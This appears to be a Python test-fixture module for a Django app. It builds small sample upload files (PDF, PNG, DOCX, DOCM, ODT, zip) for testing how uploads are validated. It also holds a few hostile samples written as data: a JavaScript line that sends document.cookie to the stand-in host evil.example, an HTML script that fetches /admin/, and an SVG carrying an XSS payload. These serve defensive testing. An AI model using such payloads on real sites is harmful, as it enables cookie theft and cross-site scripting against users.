"""Small sample files for upload tests: real formats built in memory, and code dressed up as documents."""

import io
import zipfile

from django.core.files.uploadedfile import SimpleUploadedFile


def pdf(build=None) -> bytes:
    """A one-page PDF written by pypdf (byte-identical between runs); ``build(writer)`` may add to it."""
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    if build is not None:
        build(writer)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


PDF = pdf()


def image(fmt: str = "PNG", size=(2, 2), **options) -> bytes:
    """A small image written by Pillow (PNG, JPEG, GIF or WEBP)."""
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(buffer, fmt, **options)
    return buffer.getvalue()


PNG = image("PNG")
HTML = b"<!doctype html><html><body><script>fetch('/admin/')</script></body></html>"
JS = b"document.location='https://evil.example/?c='+document.cookie;"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>'


# Zip entries carry a timestamp; a fixed one keeps every sample byte-identical between runs (and
# between xdist workers, which must collect the same parametrised tests).
_ZIP_TIME = (2020, 1, 1, 0, 0, 0)


class _ZipFile(zipfile.ZipFile):
    def writestr(self, name, data, *args, **kwargs):
        info = name if isinstance(name, zipfile.ZipInfo) else zipfile.ZipInfo(name, date_time=_ZIP_TIME)
        return super().writestr(info, data, *args, **kwargs)


def docx() -> bytes:
    buffer = io.BytesIO()
    with _ZipFile(buffer, "w") as archive:
        archive.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Override PartName="/word/document.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
        )
        archive.writestr("word/document.xml", "<w:document/>")
    return buffer.getvalue()


def docm() -> bytes:
    """A Word document with macros: a zip, like docx, but another main part."""
    buffer = io.BytesIO()
    with _ZipFile(buffer, "w") as archive:
        archive.writestr(
            "[Content_Types].xml",
            '<Types><Override PartName="/word/document.xml" '
            'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
        )
        archive.writestr("word/vbaProject.bin", b"\x00" * 16)
    return buffer.getvalue()


def odt() -> bytes:
    buffer = io.BytesIO()
    with _ZipFile(buffer, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        archive.writestr("content.xml", "<office:document-content/>")
    return buffer.getvalue()


def plain_zip() -> bytes:
    buffer = io.BytesIO()
    with _ZipFile(buffer, "w") as archive:
        archive.writestr("index.html", HTML)
    return buffer.getvalue()


def upload(name: str, content: bytes, content_type: str = "application/pdf") -> SimpleUploadedFile:
    """As a browser sends it: the content type is whatever the sender claims."""
    return SimpleUploadedFile(name, content, content_type=content_type)
